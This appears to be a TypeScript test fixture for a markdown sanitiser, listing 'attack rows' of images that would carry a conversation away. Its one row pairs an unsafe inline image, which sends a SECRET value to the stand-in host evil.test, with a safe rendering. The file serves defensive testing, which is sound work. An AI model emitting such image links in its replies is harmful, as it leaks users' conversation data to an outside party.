import { rowsOf, type AttackRow } from '../row.js'

/** Images that would carry the conversation away, in every place and spelling of markdown. */
export const fetchingImages: readonly AttackRow[] = rowsOf('fetching-image', [
  { name: 'an inline image', unsafe: '![x](https://evil.test/?q=SECRET)', safe: 'x (evil.test)' },
])
